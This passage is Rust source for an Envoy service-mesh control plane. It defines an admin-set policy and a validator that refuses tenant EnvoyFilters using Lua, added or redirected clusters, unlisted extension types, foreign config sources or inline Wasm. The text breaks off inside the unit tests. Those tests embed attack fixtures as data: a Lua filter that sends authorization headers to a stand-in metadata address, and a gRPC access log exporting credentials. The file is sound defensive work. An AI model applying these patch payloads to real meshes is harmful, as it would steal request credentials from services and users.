//! What a tenant's EnvoyFilters may do: `MeshControlPlane.spec.envoyFilterPolicy`, set by the
//! platform admin, and [`check`], the one implementation that the validating webhook (at
//! admission) and the instance (when it reads EnvoyFilters, so objects admitted earlier or while
//! the webhook was down are held to the current policy) both call.
//!
//! An EnvoyFilter is powerful: a Lua filter can read every request and call any cluster, and a
//! cluster added by a patch can point anywhere (the cloud metadata address, say).
//! The defaults are therefore safe: no Lua, no added or redirected clusters, and only
//! extensions that neither run code nor send request data elsewhere ([`DEFAULT_FILTER_TYPES`],
//! [`DEFAULT_EXTENSION_TYPES`]). Every other choice is the platform admin's.
//!
//! Types are an allow-list over every typed extension of a patch value: every `@type` (each
//! `google.protobuf.Any`: filters, access loggers, Wasm, load-balancing policies, transport
//! sockets, cluster types, tracers, ...) wherever it sits, at any depth, and the type a
//! `TypedStruct` (`udpa.type.v1` / `xds.type.v3`) wraps, so it cannot smuggle one. Filter
//! configs (`envoy.extensions.filters.`) are held to `allowedFilterTypes`, every other type to
//! `allowedExtensionTypes`. What escapes a type check is refused too: a typed config without
//! `@type` (Envoy would pick the extension by name), config fetched from another server
//! (`apiConfigSource`), inline Wasm code, and a cluster whose destination a request header
//! picks (`originalDstLbConfig`).

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::networking::{ApplyTo, EnvoyFilterSpec, PatchContext, PatchOperation};

/// Filter configs allowed by default: routing, buffering, faults, local rate limits, CORS,
/// header mutation, compression, RBAC, JWT authentication (keys from the proxy's own clusters),
/// health checks, gRPC-Web and stats, and the TCP proxy, connection manager and inspectors the
/// translator itself uses. Lua, Wasm, external authorization and processing, taps, dynamic
/// forward proxies and the like are left out: they run code or send request data elsewhere.
pub const DEFAULT_FILTER_TYPES: &[&str] = &[
    "envoy.extensions.filters.http.router.v3.Router",
    "envoy.extensions.filters.http.buffer.v3.Buffer",
    "envoy.extensions.filters.http.buffer.v3.BufferPerRoute",
    "envoy.extensions.filters.http.fault.v3.HTTPFault",
    "envoy.extensions.filters.http.local_ratelimit.v3.LocalRateLimit",
    "envoy.extensions.filters.http.cors.v3.Cors",
    "envoy.extensions.filters.http.cors.v3.CorsPolicy",
    "envoy.extensions.filters.http.header_mutation.v3.HeaderMutation",
    "envoy.extensions.filters.http.header_mutation.v3.HeaderMutationPerRoute",
    "envoy.extensions.filters.http.compressor.v3.Compressor",
    "envoy.extensions.filters.http.compressor.v3.CompressorPerRoute",
    "envoy.extensions.filters.http.decompressor.v3.Decompressor",
    "envoy.extensions.filters.http.rbac.v3.RBAC",
    "envoy.extensions.filters.http.rbac.v3.RBACPerRoute",
    "envoy.extensions.filters.http.jwt_authn.v3.JwtAuthentication",
    "envoy.extensions.filters.http.jwt_authn.v3.PerRouteConfig",
    "envoy.extensions.filters.http.health_check.v3.HealthCheck",
    "envoy.extensions.filters.http.grpc_web.v3.GrpcWeb",
    "envoy.extensions.filters.http.grpc_stats.v3.FilterConfig",
    "envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
    "envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
    "envoy.extensions.filters.network.local_ratelimit.v3.LocalRateLimit",
    "envoy.extensions.filters.network.rbac.v3.RBAC",
    "envoy.extensions.filters.listener.tls_inspector.v3.TlsInspector",
    "envoy.extensions.filters.listener.http_inspector.v3.HttpInspector",
    "envoy.extensions.filters.listener.original_dst.v3.OriginalDst",
];

/// Other extensions allowed by default: access logs to the proxy's own stdout/stderr, the
/// compression libraries the default compressor filters need, load-balancing algorithms that
/// pick among a cluster's own endpoints, upstream HTTP protocol options, the per-route filter
/// config wrapper and the retry host predicate. Left out: access loggers that export (gRPC,
/// OpenTelemetry, Fluentd) or write files, Wasm and dynamic modules anywhere, tracers, transport
/// sockets (the translator owns mTLS), cluster types, formatters that read files or secrets,
/// and LB policies that let a request pick its host (`override_host`).
pub const DEFAULT_EXTENSION_TYPES: &[&str] = &[
    "envoy.extensions.access_loggers.stream.v3.StdoutAccessLog",
    "envoy.extensions.access_loggers.stream.v3.StderrAccessLog",
    "envoy.extensions.compression.gzip.compressor.v3.Gzip",
    "envoy.extensions.compression.gzip.decompressor.v3.Gzip",
    "envoy.extensions.compression.brotli.compressor.v3.Brotli",
    "envoy.extensions.compression.brotli.decompressor.v3.Brotli",
    "envoy.extensions.compression.zstd.compressor.v3.Zstd",
    "envoy.extensions.compression.zstd.decompressor.v3.Zstd",
    "envoy.extensions.load_balancing_policies.round_robin.v3.RoundRobin",
    "envoy.extensions.load_balancing_policies.least_request.v3.LeastRequest",
    "envoy.extensions.load_balancing_policies.random.v3.Random",
    "envoy.extensions.load_balancing_policies.ring_hash.v3.RingHash",
    "envoy.extensions.load_balancing_policies.maglev.v3.Maglev",
    "envoy.extensions.upstreams.http.v3.HttpProtocolOptions",
    "envoy.config.route.v3.FilterConfig",
    "envoy.extensions.retry.host.previous_hosts.v3.PreviousHostsPredicate",
];

/// Prefix of the Lua filter's messages (`Lua`, `LuaPerRoute`).
const LUA: &str = "envoy.extensions.filters.http.lua.";
/// Filter names that make Envoy build a Lua filter even without a typed config.
const LUA_NAMES: &[&str] = &["envoy.filters.http.lua", "envoy.lua"];
/// The Lua filter's config message, reported for a filter named like one.
const LUA_TYPE: &str = "envoy.extensions.filters.http.lua.v3.Lua";
/// Prefix of every filter config message.
const FILTERS: &str = "envoy.extensions.filters.";
/// Wrappers that carry a type URL and a Struct instead of the typed message.
const TYPED_STRUCTS: &[&str] = &["udpa.type.v1.TypedStruct", "xds.type.v3.TypedStruct"];
/// Cluster fields that decide where a cluster connects: a MERGE that sets one redirects the
/// cluster, which counts as adding one.
const DESTINATION_FIELDS: &[&str] = &[
    "originalDstLbConfig",
    "original_dst_lb_config",
    "loadAssignment",
    "load_assignment",
    "type",
    "clusterType",
    "cluster_type",
    "edsClusterConfig",
    "eds_cluster_config",
];

/// Keys of a typed config (`google.protobuf.Any`) in the messages that name an extension.
const TYPED_CONFIG_KEYS: &[&str] = &["typedConfig", "typed_config"];
/// ECDS: a filter whose config another server delivers, of one of the listed types.
const CONFIG_DISCOVERY_KEYS: &[&str] = &["configDiscovery", "config_discovery"];
const TYPE_URLS_KEYS: &[&str] = &["typeUrls", "type_urls"];
/// `ConfigSource` members that fetch config from a server other than the instance (or a file
/// the proxy watches): what it delivers is checked by nobody.
const FOREIGN_CONFIG_SOURCE_KEYS: &[&str] = &[
    "apiConfigSource",
    "api_config_source",
    "pathConfigSource",
    "path_config_source",
];
/// A Wasm VM's code (`vmConfig.code.local`) given inline rather than as a file or a pinned
/// remote module.
const WASM_VM_KEYS: &[&str] = &["vmConfig", "vm_config"];
const INLINE_KEYS: &[&str] = &[
    "inlineBytes",
    "inline_bytes",
    "inlineString",
    "inline_string",
];

/// What the tenant's EnvoyFilters may do.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq, JsonSchema)]
#[serde(rename_all = "camelCase")]
pub struct EnvoyFilterPolicy {
    /// Namespaces whose EnvoyFilters apply: `*` (every namespace of the tenant, the control
    /// namespace included; the default) or namespace names. An EnvoyFilter elsewhere is refused.
    #[serde(default = "all")]
    pub allowed_namespaces: Vec<String>,
    /// Patch contexts (`match.context`) allowed. Default: all.
    #[serde(default = "all_contexts")]
    pub allowed_contexts: Vec<PatchContext>,
    /// Objects patches may apply to (`applyTo`). Default: all.
    #[serde(default = "all_targets")]
    pub allowed_apply_to: Vec<ApplyTo>,
    /// Patch operations allowed. Default: all.
    #[serde(default = "all_operations")]
    pub allowed_operations: Vec<PatchOperation>,
    /// Filter configs (`@type` of HTTP, network and listener filters and their per-route
    /// configs) patch values may carry: full message names, `package.*` prefixes or `*`.
    /// Default: filters that neither run code nor call out (see the reference docs).
    #[serde(default = "default_filter_types")]
    pub allowed_filter_types: Vec<String>,
    /// Every other typed extension (`@type` anywhere in a patch value: access loggers, Wasm,
    /// load-balancing policies, transport sockets, cluster types, tracers, ...) patch values may
    /// carry: full message names, `package.*` prefixes or `*`. `*` also allows what could carry
    /// any extension: config fetched from another server (`apiConfigSource`) and inline Wasm
    /// code. Default: access logs to stdout/stderr, compression libraries, load-balancing
    /// algorithms and upstream HTTP protocol options (see the reference docs).
    #[serde(default = "default_extension_types")]
    pub allowed_extension_types: Vec<String>,
    /// Whether Lua filters are allowed (they run arbitrary code on every request). Default:
    /// false.
    #[serde(default)]
    pub allow_lua: bool,
    /// Whether patches may add clusters, replace them or change where one connects
    /// (`loadAssignment`, `type`, `clusterType`, `edsClusterConfig`, `originalDstLbConfig`).
    /// Default: false.
    #[serde(default)]
    pub allow_added_clusters: bool,
}

fn all() -> Vec<String> {
    vec!["*".to_string()]
}

fn all_contexts() -> Vec<PatchContext> {
    vec![
        PatchContext::Any,
        PatchContext::SidecarInbound,
        PatchContext::SidecarOutbound,
        PatchContext::Gateway,
    ]
}

fn all_targets() -> Vec<ApplyTo> {
    vec![
        ApplyTo::Listener,
        ApplyTo::FilterChain,
        ApplyTo::NetworkFilter,
        ApplyTo::HttpFilter,
        ApplyTo::RouteConfiguration,
        ApplyTo::VirtualHost,
        ApplyTo::HttpRoute,
        ApplyTo::Cluster,
    ]
}

fn all_operations() -> Vec<PatchOperation> {
    vec![
        PatchOperation::Merge,
        PatchOperation::Add,
        PatchOperation::Remove,
        PatchOperation::InsertBefore,
        PatchOperation::InsertAfter,
        PatchOperation::InsertFirst,
        PatchOperation::Replace,
    ]
}

fn default_filter_types() -> Vec<String> {
    DEFAULT_FILTER_TYPES.iter().map(|s| s.to_string()).collect()
}

fn default_extension_types() -> Vec<String> {
    DEFAULT_EXTENSION_TYPES
        .iter()
        .map(|s| s.to_string())
        .collect()
}

impl Default for EnvoyFilterPolicy {
    fn default() -> Self {
        Self {
            allowed_namespaces: all(),
            allowed_contexts: all_contexts(),
            allowed_apply_to: all_targets(),
            allowed_operations: all_operations(),
            allowed_filter_types: default_filter_types(),
            allowed_extension_types: default_extension_types(),
            allow_lua: false,
            allow_added_clusters: false,
        }
    }
}

impl EnvoyFilterPolicy {
    /// A policy that allows everything (tests, and tenants whose admins are fully trusted).
    pub fn permissive() -> Self {
        Self {
            allowed_filter_types: vec!["*".to_string()],
            allowed_extension_types: vec!["*".to_string()],
            allow_lua: true,
            allow_added_clusters: true,
            ..Self::default()
        }
    }

    /// Whether this is the default policy (left out when a MeshConfig is serialized).
    pub fn is_default(&self) -> bool {
        *self == Self::default()
    }

    /// Whether a typed config of message `type_name` is allowed; `None` if it is, else the
    /// reason.
    fn type_refusal(&self, type_name: &str) -> Option<String> {
        if type_name.starts_with(LUA) {
            return (!self.allow_lua)
                .then(|| format!("Lua filter {type_name} is not allowed (allowLua)"));
        }
        if type_name.starts_with(FILTERS) {
            return (!listed(&self.allowed_filter_types, type_name))
                .then(|| format!("filter type {type_name} is not allowed (allowedFilterTypes)"));
        }
        (!listed(&self.allowed_extension_types, type_name)).then(|| {
            if type_name.is_empty() {
                "a typed config without @type is not allowed (Envoy would pick the extension by name; allowedExtensionTypes)".to_string()
            } else {
                format!("extension type {type_name} is not allowed (allowedExtensionTypes)")
            }
        })
    }

    /// Whether every extension type is allowed, and so whatever could carry one.
    fn any_extension(&self) -> bool {
        self.allowed_extension_types.iter().any(|a| a == "*")
    }
}

fn listed(list: &[String], type_name: &str) -> bool {
    list.iter().any(|allowed| {
        allowed == "*"
            || allowed == type_name
            || allowed
                .strip_suffix('*')
                .is_some_and(|prefix| !type_name.is_empty() && type_name.starts_with(prefix))
    })
}

/// One way an EnvoyFilter goes beyond the policy; the message names the field and the rule.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{field}: {reason}; spec.meshConfig.envoyFilterPolicy of the revision's MeshControlPlane does not allow it")]
pub struct PolicyViolation {
    pub field: String,
    pub reason: String,
}

/// Checks EnvoyFilter `spec` in namespace `namespace` of a tenant whose control namespace is
/// `control_namespace` against `policy`; every violation is returned.
pub fn check(
    policy: &EnvoyFilterPolicy,
    namespace: &str,
    control_namespace: &str,
    spec: &EnvoyFilterSpec,
) -> Vec<PolicyViolation> {
    let mut out = Vec::new();
    let namespace_allowed = policy
        .allowed_namespaces
        .iter()
        .any(|n| n == "*" || n == namespace);
    if !namespace_allowed {
        let where_ = if namespace == control_namespace {
            "the control namespace"
        } else {
            "this namespace"
        };
        out.push(PolicyViolation {
            field: "metadata.namespace".into(),
            reason: format!(
                "EnvoyFilters in {where_} ({namespace:?}) are not allowed (allowed: {})",
                policy.allowed_namespaces.join(", ")
            ),
        });
    }
    for (i, patch) in spec.config_patches.iter().enumerate() {
        let field = |rest: &str| format!("spec.configPatches[{i}]{rest}");
        let context = patch.match_.as_ref().map(|m| m.context).unwrap_or_default();
        if !policy.allowed_contexts.contains(&context) {
            out.push(PolicyViolation {
                field: field(".match.context"),
                reason: format!("context {} is not allowed", wire(&context)),
            });
        }
        if !policy.allowed_apply_to.contains(&patch.apply_to) {
            out.push(PolicyViolation {
                field: field(".applyTo"),
                reason: format!("patches of {} are not allowed", wire(&patch.apply_to)),
            });
        }
        let op = patch.patch.operation;
        if !policy.allowed_operations.contains(&op) {
            out.push(PolicyViolation {
                field: field(".patch.operation"),
                reason: format!("operation {} is not allowed", wire(&op)),
            });
        }
        let value = patch.patch.value.as_ref();
        if patch.apply_to == ApplyTo::Cluster && !policy.allow_added_clusters {
            match op {
                PatchOperation::Add | PatchOperation::Replace => out.push(PolicyViolation {
                    field: field(".patch"),
                    reason: format!("{} of a cluster adds a destination, which is not allowed (allowAddedClusters)", wire(&op)),
                }),
                PatchOperation::Merge => {
                    let keys = value.and_then(Value::as_object).into_iter().flat_map(|v| v.keys());
                    for key in keys.filter(|k| DESTINATION_FIELDS.contains(&k.as_str())) {
                        out.push(PolicyViolation {
                            field: field(&format!(".patch.value.{key}")),
                            reason: "a cluster patch that changes where a cluster connects (loadAssignment, type, clusterType, edsClusterConfig, originalDstLbConfig) is not allowed (allowAddedClusters)".into(),
                        });
                    }
                }
                _ => {}
            }
        }
        if let Some(v) = value {
            let mut found = Vec::new();
            extensions(v, "", &mut found);
            for (path, finding) in found {
                let reason = match finding {
                    Finding::Type(type_name) => policy.type_refusal(&type_name),
                    Finding::ForeignConfigSource => (!policy.any_extension()).then(|| {
                        "config fetched from a server other than the instance is not allowed: nothing checks what it delivers (only `ads` and `self` config sources; allowedExtensionTypes: *)".to_string()
                    }),
                    Finding::InlineWasmCode => (!policy.any_extension()).then(|| {
                        "inline Wasm code is not allowed (a file on the proxy or a remote module pinned by sha256; allowedExtensionTypes: *)".to_string()
                    }),
                };
                if let Some(reason) = reason {
                    out.push(PolicyViolation {
                        field: field(&format!(".patch.value{path}")),
                        reason,
                    });
                }
            }
        }
    }
    out
}

/// Something in a patch value that the policy rules on.
enum Finding {
    /// A typed extension: the message an `Any` (or the `TypedStruct` it holds) carries, a
    /// filter named like Lua without a typed config, or a type an ECDS filter accepts; empty
    /// for a typed config without `@type`.
    Type(String),
    /// A `ConfigSource` that fetches from another server or a file.
    ForeignConfigSource,
    /// Inline Wasm code.
    InlineWasmCode,
}

/// Every typed extension and every other finding of a JSON value, with its path. Every object
/// with `@type` is an `Any` in proto-JSON, so a walk over the whole value finds them all,
/// whatever message they sit in.
fn extensions(v: &Value, path: &str, out: &mut Vec<(String, Finding)>) {
    match v {
        Value::Object(map) => {
            let get =
                |keys: &[&'static str]| keys.iter().find_map(|k| map.get(*k).map(|v| (*k, v)));
            let named_lua = map
                .get("name")
                .and_then(Value::as_str)
                .is_some_and(|n| LUA_NAMES.contains(&n));
            let typed = get(TYPED_CONFIG_KEYS);
            let discovered = get(CONFIG_DISCOVERY_KEYS);
            if named_lua && typed.is_none() && discovered.is_none() {
                out.push((path.to_string(), Finding::Type(LUA_TYPE.to_string())));
            }
            if let Some((key, Value::Object(any))) = typed {
                if !any.contains_key("@type") {
                    out.push((format!("{path}.{key}"), Finding::Type(String::new())));
                }
            }
            if let Some((key, Value::Object(ecds))) = discovered {
                if let Some((urls_key, Value::Array(urls))) = TYPE_URLS_KEYS
                    .iter()
                    .find_map(|k| ecds.get(*k).map(|v| (*k, v)))
                {
                    for (i, url) in urls.iter().enumerate() {
                        let url = url.as_str().unwrap_or_default();
                        out.push((
                            format!("{path}.{key}.{urls_key}[{i}]"),
                            Finding::Type(type_name(url).to_string()),
                        ));
                    }
                }
            }
            if let Some(t) = map.get("@type") {
                let name = type_name(t.as_str().unwrap_or_default());
                let wrapped = if TYPED_STRUCTS.contains(&name) {
                    map.get("typeUrl")
                        .or_else(|| map.get("type_url"))
                        .and_then(Value::as_str)
                        .map(type_name)
                } else {
                    None
                };
                out.push((
                    path.to_string(),
                    Finding::Type(wrapped.unwrap_or(name).to_string()),
                ));
            }
            for key in FOREIGN_CONFIG_SOURCE_KEYS {
                if map.get(*key).is_some_and(|v| !v.is_null()) {
                    out.push((format!("{path}.{key}"), Finding::ForeignConfigSource));
                }
            }
            if let Some((key, vm)) = get(WASM_VM_KEYS) {
                let local = ["code"]
                    .iter()
                    .find_map(|k| vm.get(*k))
                    .and_then(|code| code.get("local"));
                if let Some(local) = local {
                    for inline in INLINE_KEYS {
                        if local.get(*inline).is_some_and(|v| !v.is_null()) {
                            out.push((
                                format!("{path}.{key}.code.local.{inline}"),
                                Finding::InlineWasmCode,
                            ));
                        }
                    }
                }
            }
            for (k, child) in map {
                extensions(child, &format!("{path}.{k}"), out);
            }
        }
        Value::Array(items) => {
            for (i, child) in items.iter().enumerate() {
                extensions(child, &format!("{path}[{i}]"), out);
            }
        }
        _ => {}
    }
}

/// A value as the API spells it (`INSERT_FIRST`, `SIDECAR_INBOUND`).
fn wire<T: Serialize>(value: &T) -> String {
    serde_json::to_value(value)
        .ok()
        .and_then(|v| v.as_str().map(str::to_string))
        .unwrap_or_default()
}

fn type_name(url: &str) -> &str {
    url.rsplit('/').next().unwrap_or(url)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn spec(patches: Value) -> EnvoyFilterSpec {
        serde_json::from_value(json!({"configPatches": patches})).expect("spec")
    }

    /// The attack of the issue: a Lua filter that sends request headers to a cluster the
    /// same EnvoyFilter adds (198.18.254.254 stands in for the cloud metadata address).
    fn exfiltration() -> EnvoyFilterSpec {
        spec(json!([
            {"applyTo": "CLUSTER", "patch": {"operation": "ADD", "value": {
                "name": "metadata", "type": "STATIC", "connectTimeout": "1s",
                "loadAssignment": {"clusterName": "metadata", "endpoints": [{"lbEndpoints": [{"endpoint": {"address": {"socketAddress": {"address": "198.18.254.254", "portValue": 80}}}}]}]}}}},
            {"applyTo": "HTTP_FILTER", "match": {"listener": {"filterChain": {"filter": {"name": "envoy.filters.network.http_connection_manager"}}}},
             "patch": {"operation": "INSERT_FIRST", "value": {"name": "envoy.filters.http.lua", "typedConfig": {
                "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua",
                "defaultSourceCode": {"inlineString": "function envoy_on_request(h) h:httpCall('metadata', {[':method']='GET',[':path']='/',[':authority']='x'}, h:headers():get('authorization'), 1000) end"}}}}}
        ]))
    }

    #[test]
    fn the_default_policy_refuses_lua_exfiltrating_to_an_added_cluster() {
        let v = check(
            &EnvoyFilterPolicy::default(),
            "shop",
            "meshplane-blue",
            &exfiltration(),
        );
        let text: Vec<String> = v.iter().map(ToString::to_string).collect();
        assert_eq!(text.len(), 2, "{text:?}");
        assert!(
            text[0].starts_with("spec.configPatches[0].patch: ADD of a cluster"),
            "{text:?}"
        );
        assert!(
            text[1].starts_with("spec.configPatches[1].patch.value.typedConfig: Lua filter"),
            "{text:?}"
        );
        assert!(
            text[1].contains("spec.meshConfig.envoyFilterPolicy"),
            "{text:?}"
        );
        assert!(check(
            &EnvoyFilterPolicy::permissive(),
            "shop",
            "meshplane-blue",
            &exfiltration()
        )
        .is_empty());
    }

    #[test]
    fn filter_types_are_found_wherever_they_sit_and_typed_structs_are_unwrapped() {
        let listener = spec(
            json!([{"applyTo": "LISTENER", "patch": {"operation": "ADD", "value": {
            "name": "l", "filterChains": [{"filters": [{"name": "hcm", "typedConfig": {
                "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
                "httpFilters": [
                    {"name": "authz", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.filters.http.ext_authz.v3.ExtAuthz"}},
                    {"name": "smuggled", "typedConfig": {"@type": "type.googleapis.com/xds.type.v3.TypedStruct",
                        "typeUrl": "type.googleapis.com/envoy.extensions.filters.http.wasm.v3.Wasm", "value": {}}},
                    {"name": "router", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.filters.http.router.v3.Router"}}
                ]}}]}]}}}]),
        );
        let v = check(&EnvoyFilterPolicy::default(), "shop", "cp", &listener);
        let fields: Vec<&str> = v.iter().map(|v| v.field.as_str()).collect();
        assert_eq!(
            fields,
            [
                "spec.configPatches[0].patch.value.filterChains[0].filters[0].typedConfig.httpFilters[0].typedConfig",
                "spec.configPatches[0].patch.value.filterChains[0].filters[0].typedConfig.httpFilters[1].typedConfig",
            ]
        );
        assert!(v[1].reason.contains("wasm"), "{v:?}");
        let allowed = EnvoyFilterPolicy {
            allowed_filter_types: vec![
                "envoy.extensions.filters.http.ext_authz.*".into(),
                "envoy.extensions.filters.http.wasm.v3.Wasm".into(),
                "envoy.extensions.filters.network.*".into(),
                "envoy.extensions.filters.http.router.v3.Router".into(),
            ],
            ..EnvoyFilterPolicy::default()
        };
        assert!(check(&allowed, "shop", "cp", &listener).is_empty());
    }

    #[test]
    fn namespaces_contexts_targets_operations_and_cluster_redirects_are_checked() {
        let policy = EnvoyFilterPolicy {
            allowed_namespaces: vec!["meshplane-blue".into()],
            allowed_contexts: vec![PatchContext::SidecarInbound],
            allowed_apply_to: vec![ApplyTo::Cluster, ApplyTo::HttpFilter],
            allowed_operations: vec![PatchOperation::Merge],
            ..EnvoyFilterPolicy::default()
        };
        let patches = spec(json!([
            {"applyTo": "LISTENER", "match": {"context": "SIDECAR_OUTBOUND"}, "patch": {"operation": "REMOVE"}},
            {"applyTo": "CLUSTER", "match": {"context": "SIDECAR_INBOUND"}, "patch": {"operation": "MERGE", "value": {"connectTimeout": "2s"}}},
            {"applyTo": "CLUSTER", "match": {"context": "SIDECAR_INBOUND"}, "patch": {"operation": "MERGE", "value": {"loadAssignment": {"clusterName": "x"}}}}
        ]));
        let v = check(&policy, "shop", "meshplane-blue", &patches);
        let fields: Vec<&str> = v.iter().map(|v| v.field.as_str()).collect();
        assert_eq!(
            fields,
            [
                "metadata.namespace",
                "spec.configPatches[0].match.context",
                "spec.configPatches[0].applyTo",
                "spec.configPatches[0].patch.operation",
                "spec.configPatches[2].patch.value.loadAssignment",
            ]
        );
        assert!(check(&policy, "meshplane-blue", "meshplane-blue", &spec(json!([
            {"applyTo": "CLUSTER", "match": {"context": "SIDECAR_INBOUND"}, "patch": {"operation": "MERGE", "value": {"connectTimeout": "2s"}}}
        ])))
        .is_empty());
    }

    #[test]
    fn a_filter_named_lua_without_a_typed_config_counts_as_lua() {
        let named = spec(
            json!([{"applyTo": "HTTP_FILTER", "patch": {"operation": "INSERT_FIRST",
            "value": {"name": "envoy.filters.http.lua"}}}]),
        );
        let v = check(&EnvoyFilterPolicy::default(), "shop", "cp", &named);
        assert_eq!(v.len(), 1, "{v:?}");
        assert_eq!(v[0].field, "spec.configPatches[0].patch.value");
        assert!(v[0].reason.contains("allowLua"), "{v:?}");
        let lua_allowed = EnvoyFilterPolicy {
            allow_lua: true,
            ..EnvoyFilterPolicy::default()
        };
        assert!(check(&lua_allowed, "shop", "cp", &named).is_empty());
    }

    fn violations(policy: &EnvoyFilterPolicy, patches: Value) -> Vec<(String, String)> {
        check(policy, "shop", "meshplane-blue", &spec(patches))
            .into_iter()
            .map(|v| (v.field, v.reason))
            .collect()
    }

    fn hcm_with_access_log(log: Value) -> Value {
        json!([{"applyTo": "NETWORK_FILTER",
            "match": {"listener": {"filterChain": {"filter": {"name": "envoy.filters.network.http_connection_manager"}}}},
            "patch": {"operation": "MERGE", "value": {"name": "envoy.filters.network.http_connection_manager", "typedConfig": {
                "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
                "accessLog": [{"name": "log", "typedConfig": log}]}}}}])
    }

    /// A Wasm access logger whose code is inline: refused by type by default, and for its
    /// inline code even where Wasm access loggers are allowed.
    #[test]
    fn a_wasm_access_logger_with_inline_code_is_refused() {
        let patches = hcm_with_access_log(json!({
            "@type": "type.googleapis.com/envoy.extensions.access_loggers.wasm.v3.WasmAccessLog",
            "config": {"vmConfig": {"runtime": "envoy.wasm.runtime.v8",
                "code": {"local": {"inlineBytes": "AGFzbQEAAAA="}}}}}));
        let v = violations(&EnvoyFilterPolicy::default(), patches.clone());
        let log = "spec.configPatches[0].patch.value.typedConfig.accessLog[0].typedConfig";
        assert_eq!(v.len(), 2, "{v:?}");
        assert_eq!(v[0].0, log);
        assert!(v[0].1.contains("extension type envoy.extensions.access_loggers.wasm.v3.WasmAccessLog is not allowed (allowedExtensionTypes)"), "{v:?}");
        assert_eq!(
            v[1].0,
            format!("{log}.config.vmConfig.code.local.inlineBytes")
        );
        assert!(v[1].1.contains("inline Wasm code"), "{v:?}");
        let wasm_loggers = EnvoyFilterPolicy {
            allowed_extension_types: vec!["envoy.extensions.access_loggers.wasm.*".into()],
            ..EnvoyFilterPolicy::default()
        };
        let v = violations(&wasm_loggers, patches.clone());
        assert_eq!(v.len(), 1, "{v:?}");
        assert!(v[0].1.contains("inline Wasm code"), "{v:?}");
        assert!(violations(&EnvoyFilterPolicy::permissive(), patches).is_empty());
    }

    /// A gRPC access log that exports credentials to a cluster of the patch's choosing.
    #[test]
    fn a_grpc_access_log_exporting_headers_is_refused() {
        let patches = hcm_with_access_log(json!({
            "@type": "type.googleapis.com/envoy.extensions.access_loggers.grpc.v3.HttpGrpcAccessLogConfig",
            "commonConfig": {"logName": "x", "transportApiVersion": "V3",
                "grpcService": {"envoyGrpc": {"clusterName": "outbound|80||collector.shop.svc.cluster.local"}}},
            "additionalRequestHeadersToLog": ["authorization", "cookie"]}));
        let v = violations(&EnvoyFilterPolicy::default(), patches.clone());
        assert_eq!(v.len(), 1, "{v:?}");
        assert_eq!(
            v[0].0,
            "spec.configPatches[0].patch.value.typedConfig.accessLog[0].typedConfig"
        );
        assert!(v[0].1.contains("envoy.extensions.access_loggers.grpc.v3.HttpGrpcAccessLogConfig is not allowed (allowedExtensionTypes)"), "{v:?}");
        // A typed struct does not hide it.
        let wrapped = hcm_with_access_log(json!({
            "@type": "type.googleapis.com/udpa.type.v1.TypedStruct",
            "typeUrl": "type.googleapis.com/envoy.extensions.access_loggers.grpc.v3.HttpGrpcAccessLogConfig",
            "value": {}}));
        assert_eq!(violations(&EnvoyFilterPolicy::default(), wrapped).len(), 1);
        let exporting = EnvoyFilterPolicy {
            allowed_extension_types: vec![
                "envoy.extensions.access_loggers.grpc.v3.HttpGrpcAccessLogConfig".into(),
            ],
            ..EnvoyFilterPolicy::default()
        };
        assert!(violations(&exporting, patches).is_empty());
    }

    /// `useHttpHeader` lets a request header pick where the cluster connects.
    #[test]
    fn a_header_picking_the_original_destination_is_refused() {
        let patches = json!([{"applyTo": "CLUSTER", "match": {"cluster": {"name": "PassthroughCluster"}},
            "patch": {"operation": "MERGE", "value": {"originalDstLbConfig": {"useHttpHeader": true}}}}]);
        let v = violations(&EnvoyFilterPolicy::default(), patches.clone());
        assert_eq!(v.len(), 1, "{v:?}");
        assert_eq!(
            v[0].0,
            "spec.configPatches[0].patch.value.originalDstLbConfig"
        );
        assert!(v[0].1.contains("allowAddedClusters"), "{v:?}");
        let snake = json!([{"applyTo": "CLUSTER", "patch": {"operation": "MERGE",
            "value": {"original_dst_lb_config": {"use_http_header": true, "http_header_name": "x-dst"}}}}]);
        assert_eq!(violations(&EnvoyFilterPolicy::default(), snake).len(), 1);
        let clusters = EnvoyFilterPolicy {
            allow_added_clusters: true,
            ..EnvoyFilterPolicy::default()
        };
        assert!(violations(&clusters, patches).is_empty());
    }

    /// Every typed extension anywhere is held to the allow-list: LB policies, transport
    /// sockets, cluster types, tracers, a typed config without `@type`, ECDS type URLs and
    /// config from another server.
    #[test]
    fn every_typed_extension_is_held_to_the_allow_list() {
        let cluster = json!([{"applyTo": "CLUSTER", "patch": {"operation": "MERGE", "value": {
            "loadBalancingPolicy": {"policies": [
                {"typedExtensionConfig": {"name": "rr", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.load_balancing_policies.round_robin.v3.RoundRobin"}}},
                {"typedExtensionConfig": {"name": "oh", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.load_balancing_policies.override_host.v3.OverrideHost"}}}]},
            "transportSocket": {"name": "tls", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.UpstreamTlsContext"}},
            "typedExtensionProtocolOptions": {"envoy.extensions.upstreams.http.v3.HttpProtocolOptions": {
                "@type": "type.googleapis.com/envoy.extensions.upstreams.http.v3.HttpProtocolOptions",
                "explicitHttpConfig": {"http2ProtocolOptions": {}}}}}}}]);
        let v = violations(&EnvoyFilterPolicy::default(), cluster);
        let fields: Vec<&str> = v.iter().map(|(f, _)| f.as_str()).collect();
        assert_eq!(
            fields,
            [
                "spec.configPatches[0].patch.value.loadBalancingPolicy.policies[1].typedExtensionConfig.typedConfig",
                "spec.configPatches[0].patch.value.transportSocket.typedConfig",
            ]
        );
        let filters = json!([{"applyTo": "HTTP_FILTER", "patch": {"operation": "INSERT_FIRST", "value": {
            "name": "envoy.filters.http.ext_authz", "typedConfig": {}}}},
            {"applyTo": "HTTP_FILTER", "patch": {"operation": "INSERT_FIRST", "value": {
